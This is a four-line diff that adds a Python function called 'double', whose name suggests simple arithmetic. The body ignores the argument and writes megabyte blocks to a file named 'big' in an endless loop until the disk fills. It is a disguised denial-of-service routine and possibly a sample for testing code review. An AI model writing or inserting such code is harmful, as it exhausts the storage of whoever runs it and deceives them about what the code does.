@@ -1,0 +1,4 @@
+def double(number):
+    with open('big', 'wb') as file:
+        while True:
+            file.write(bytes(1 << 20))
